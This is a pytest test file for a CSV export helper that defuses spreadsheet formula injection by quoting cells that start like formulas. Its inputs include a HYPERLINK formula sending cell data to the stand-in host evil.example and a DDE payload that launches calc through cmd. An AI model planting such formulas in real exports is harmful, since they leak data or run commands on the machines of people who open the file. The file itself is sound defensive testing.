"""CSV cells a spreadsheet does not run (app.core.csv_export): text that starts like a formula
gets a leading single quote, as OWASP advises; numbers typed as numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from app.core.csv_export import FORMULA_STARTS, safe_cell, safe_writer


@pytest.mark.parametrize("text", [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+82 10", "-2+3", "@SUM(A1)",
    "\t=1", "\r=1", "=", "-",
])
def test_text_that_starts_like_a_formula_gets_a_single_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["김민준", "a=1", "010-1234-5678", " =1", "'=1", "", "中-1",
                                  "＝1", "\n=1"])
def test_other_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-12.50"), 0, None, True,
                                   dt.date(2026, 12, 1)])
def test_numbers_and_other_typed_values_are_left_as_they_are(value):
    assert safe_cell(value) is value


def test_the_writer_neutralises_every_cell_and_keeps_numbers_numbers():
    out = io.StringIO()
    writer = safe_writer(out, lineterminator="\n")
    writer.writerow(["이름", "금액"])
    writer.writerows([['=cmd|" /C calc"!A0', -12_500], ["-2+3", "-5"], ["김,민준", 3.5]])
    assert out.getvalue() == ('이름,금액\n"\'=cmd|"" /C calc""!A0",-12500\n'
                              "'-2+3,'-5\n\"김,민준\",3.5\n")
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["이름", "금액"], ["'=cmd|\" /C calc\"!A0", "-12500"], ["'-2+3", "'-5"],
        ["김,민준", "3.5"]]


def test_the_formula_starts_are_owasps():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
